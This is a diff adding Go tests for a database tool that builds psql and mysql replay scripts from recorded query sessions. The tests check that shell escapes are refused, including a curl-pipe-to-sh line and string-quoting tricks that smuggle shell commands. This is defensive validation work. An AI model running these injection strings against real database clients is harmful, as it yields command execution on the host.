@@ -0,0 +1,95 @@
+package db
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestScriptStatement(t *testing.T) {
+	tests := []struct {
+		engine string
+		stmt   string
+		want   string // "" if refused
+	}{
+		{"postgres", "SELECT 1", "SELECT 1\n;"},
+		{"postgres", "SELECT 1;", "SELECT 1\n;"},
+		{"postgres", "SELECT 1 -- last", "SELECT 1 -- last\n;"},
+		{"postgres", "SELECT 1; -- done;", "SELECT 1; -- done\n;"},
+		{"postgres", `SELECT E'a\nb', 'c:\dir'`, "SELECT E'a\\nb', 'c:\\dir'\n;"},
+		{"postgres", `SELECT $$ \! id $$`, "SELECT $$ \\! id $$\n;"},
+		{"mysql", "SELECT 1 # last", "SELECT 1 # last\n;"},
+		{"mysql", `SELECT 'a\nb'`, "SELECT 'a\\nb'\n;"},
+		{"mysql", "USE app", "USE app\n;"},
+		{"postgres", "COPY t TO STDOUT", "COPY t TO STDOUT\n;"},
+
+		{"postgres", `\! curl example.com | sh`, ""},
+		{"postgres", `SELECT 1; \! id`, ""},
+		{"postgres", `SELECT 1 \g /tmp/out`, ""},
+		{"postgres", `SELECT 1 /* \! id */`, ""},
+		{"postgres", "SELECT 'unterminated", ""},
+		{"postgres", "SELECT 1 /* unterminated", ""},
+		// a backslash ends this string if standard_conforming_strings is off
+		{"postgres", `SELECT 'a\'; \! id; --'`, ""},
+		// psql would read the rest of the script as rows
+		{"postgres", "COPY t FROM STDIN", ""},
+		{"postgres", "copy t (a, b) from stdin with (format csv);", ""},
+		{"postgres", "SELECT 1; COPY t FROM stdin", ""},
+		{"mysql", `SELECT 1; \! id`, ""},
+		{"mysql", "SELECT 1;\nsystem id", ""},
+		{"mysql", "-- note\nSYSTEM id", ""},
+		{"mysql", "source /tmp/evil.sql", ""},
+		{"mysql", `SELECT 'a\'; \! id; -- '`, ""},
+		// lexed differently with NO_BACKSLASH_ESCAPES, so refused too
+		{"mysql", `SELECT 'a\'b'`, ""},
+		{"mysql", "SELECT 1 /*! \\! id */", ""},
+	}
+	for _, tt := range tests {
+		got, err := scriptStatement(tt.engine, tt.stmt)
+		if tt.want == "" {
+			if err == nil {
+				t.Errorf("scriptStatement(%s, %q) = %q, want error", tt.engine, tt.stmt, got)
+			}
+			continue
+		}
+		if err != nil || got != tt.want {
+			t.Errorf("scriptStatement(%s, %q) = %q, %v, want %q", tt.engine, tt.stmt, got, err, tt.want)
+		}
+	}
+}
+
+func TestReplayScript(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "session.jsonl")
+	f, err := os.Create(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	enc := json.NewEncoder(f)
+	for _, e := range []recordEntry{
+		{Engine: "postgres", Client: "a", Query: "SELECT 1 -- one", Replay: []string{"SELECT 1 -- one"}},
+		{Engine: "postgres", Client: "a", Query: `\! id`, Replay: []string{`\! id`}},
+		{Engine: "postgres", Client: "b", Query: "SELECT 2", Replay: []string{"SELECT 2;"}},
+		{Engine: "postgres", Client: "a", Query: "DELETE FROM t", Replay: []string{"DELETE FROM t"}, Rejected: true},
+		{Engine: "postgres", Client: "a", Query: "SELECT $1", Replay: nil},
+	} {
+		if err := enc.Encode(e); err != nil {
+			t.Fatal(err)
+		}
+	}
+	f.Close()
+
+	engine, script, err := replayScript(path, "", "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := "SELECT 1 -- one\n;\nSELECT 2\n;\n"; engine != "postgres" || script != want {
+		t.Errorf("replayScript = %s, %q, want postgres, %q", engine, script, want)
+	}
+	if _, script, _ := replayScript(path, "b", ""); script != "SELECT 2\n;\n" {
+		t.Errorf("replayScript for client b = %q", script)
+	}
+	if engine, _, _ := replayScript(path, "", "mysql"); engine != "mysql" {
+		t.Errorf("replayScript as mysql = %s", engine)
+	}
+}